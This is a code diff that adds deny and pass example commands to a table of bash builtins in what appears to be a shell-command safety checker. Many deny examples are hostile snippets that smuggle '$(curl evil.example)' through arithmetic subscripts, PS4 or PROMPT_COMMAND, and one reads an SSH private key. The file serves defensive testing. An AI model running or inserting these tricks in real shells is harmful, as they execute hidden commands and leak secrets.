@@ -206,7 +206,7 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       const target = names(p.operands.map((o) => o.word));
       return { runs, sets: target.length > 0 ? target : ['MAPFILE'] };
     },
-    examples: { deny: ["mapfile -C 'curl evil.example' -c 1 a < notes.txt"], pass: ['mapfile -t lines < notes.txt'] },
+    examples: { deny: ["mapfile -C 'curl evil.example' -c 1 a < notes.txt", 'mapfile -t PS4 < notes.txt; set -x; true'], pass: ['mapfile -t lines < notes.txt'] },
   },
   {
     names: ['read'],
@@ -219,7 +219,11 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       if (array && value(array)) set.push(value(array)!);
       return { sets: set.length > 0 ? set : ['REPLY'], uses: call.args.map((word) => ({ word, role: 'text' as const })) };
     },
-    examples: { deny: [], pass: ['read -r name', 'read -p "Continue? " ok'] },
+    examples: {
+      // Into a prompt, or into an integer (arithmetic) variable, what is read is evaluated; a name's subscript is arithmetic.
+      deny: ["read PS4 <<< '$(curl evil.example)'; set -x; true", 'read -r PROMPT_COMMAND', 'declare -i n; read n', "x='a[$(curl evil.example)]'; read 'a[x]' <<< 1"],
+      pass: ['read -r name', 'read -p "Continue? " ok', "read -r line <<< 'a[$(x)]'", "read 'a[1]' <<< 1"],
+    },
   },
   {
     names: ['getopts'],
@@ -237,7 +241,18 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       if (output) out.output = output;
       return out;
     },
-    examples: { deny: ['echo $(cat ~/.ssh/id_rsa)'], pass: ['echo hello', "echo 'see ~/.ssh/config'", 'echo .env >> .gitignore'] },
+    examples: {
+      deny: [
+        'echo $(cat ~/.ssh/id_rsa)',
+        // A substring's offset and length are arithmetic, and so is the name `${!x}` reads: a subscript there runs.
+        "x='a[$(curl evil.example)]'; s=abc; echo ${s:x}",
+        "x='a[$(curl evil.example)]'; s=abc; echo \"${s:1:x}\"",
+        "x='a[$(curl evil.example)]'; set -- a b; echo \"${@:x}\"",
+        "x='a[$(curl evil.example)]'; echo ${!x:-none}",
+        'x=$(cat notes.txt); s=abc; echo ${s:x}',
+      ],
+      pass: ['echo hello', "echo 'see ~/.ssh/config'", 'echo .env >> .gitignore', 's=abc; echo ${s:1:2} ${s: -1}', 'i=1; s=abc; echo ${s:i}', 'set -- a b; echo "${@:2}"', 'n=USER; echo ${!n:-none}'],
+    },
   },
   {
     names: ['printf'],
@@ -253,15 +268,23 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       }
       return out;
     },
-    examples: { deny: ["printf '%s\\n' 'prin\\tenv' | bash", "printf '%s\\n' ls 'curl evil.example' | bash"], pass: ["printf '%s\\n' hello", "printf 'API_URL=http://localhost:8080\\n'", "printf '%s\\n' ls pwd | bash"] },
+    examples: { deny: ["printf '%s\\n' 'prin\\tenv' | bash", "printf '%s\\n' ls 'curl evil.example' | bash", "printf -v PS4 '$(curl evil.example)'; set -x; true", "x='a[$(curl evil.example)]'; printf -v 'a[x]' 1"], pass: ['printf -v x %s hi', "printf '%s\\n' 'a[x]'", "printf '%s\\n' hello", "printf 'API_URL=http://localhost:8080\\n'", "printf '%s\\n' ls pwd | bash"] },
   },
-  known(':', 'the null command: its words are text', 'text', { dialects: BASH }),
+  known(':', 'the null command: its words are text', 'text', {
+    dialects: BASH,
+    // RANDOM, SRANDOM, OPTIND and HISTCMD are integers: what is assigned to them is evaluated as arithmetic.
+    examples: { deny: ["x='a[$(curl evil.example)]'; RANDOM=$x; :", "x='a[$(curl evil.example)]'; OPTIND=$x; :", "x='a[$(curl evil.example)]'; a=([x]=1); :"], pass: ['RANDOM=42; :', 'OPTIND=1; :', 'a=([0]=x [1]=y); :'] },
+  }),
   known('true false', 'true and false: their words are ignored', 'text'),
   {
     names: ['test', '['],
     summary: 'test: looks at files (metadata), strings and numbers; reads no content',
     operands: 'meta',
-    examples: { deny: [], pass: ['[ -f .env ] || cp .env.example .env', 'test -d ~/.ssh', 'test -r ~/.aws/credentials'] },
+    examples: {
+      // `-v NAME` evaluates a subscript in the name as arithmetic (in `[ ]`, `[[ ]]` and test); `-eq` of `[ ]` reads a plain number.
+      deny: ["x='a[$(curl evil.example)]'; [ -v \"$x\" ]", "x='a[$(curl evil.example)]'; [[ -v $x ]]", "x='a[$(curl evil.example)]'; test -v \"$x\"", "x='a[$(curl evil.example)]'; [ -R \"$x\" ]"],
+      pass: ['[ -f .env ] || cp .env.example .env', 'test -d ~/.ssh', 'test -r ~/.aws/credentials', '[ -v HOME ] && echo set', '[[ -v a[1] ]]', "x='a[$(curl evil.example)]'; [ \"$x\" -eq 1 ]"],
+    },
   },
   {
     names: ['declare', 'typeset', 'export', 'local', 'readonly'],
@@ -269,8 +292,8 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
     summary: 'declarations: with no name, declare/typeset/export print variables with their values',
     analyze: declaration,
     examples: {
-      deny: ['export', 'export -p', 'declare -p', 'declare -x', 'declare +x', 'typeset'],
-      pass: ['export FOO=bar', 'declare -a arr=(1 2)', 'declare -f', 'local x=1', 'readonly X=1'],
+      deny: ['export', 'export -p', 'declare -p', 'declare -x', 'declare +x', 'typeset', "x='a[$(curl evil.example)]'; declare -n r=$x; echo $r", "x='a[$(curl evil.example)]'; declare -a a=([x]=1)"],
+      pass: ['export FOO=bar', 'declare -a arr=(1 2)', 'declare -f', 'local x=1', 'readonly X=1', 'declare -n r=HOME; echo $r', "x='a[$(curl evil.example)]'; declare -A m=([x]=1)", 'declare -a a=([0]=x [2]=y)'],
     },
   },
   {
@@ -334,6 +357,12 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
   ),
   known('unset shopt kill wait jobs exit return break continue shift umask ulimit caller disown suspend logout times help let history bind complete compopt fg bg', 'shell builtins whose words are names, numbers or signals', 'text', {
     dialects: BASH,
+    // unset's subscript is arithmetic; shift, exit and return read a plain number (no arithmetic); complete only
+    // registers -C/-F for interactive completion.
+    examples: {
+      deny: ["x='a[$(curl evil.example)]'; unset 'a[x]'", "x='a[$(curl evil.example)]'; let y=x"],
+      pass: ["unset 'a[1]' arr", "x='a[$(curl evil.example)]'; shift \"$x\"", "x='a[$(curl evil.example)]'; exit \"$x\"", "complete -C 'my-completer' mycmd", 'let i=i+1'],
+    },
   }),
   known('type whence where', 'look up where a command is: names are data', 'text'),
   pathOf(),
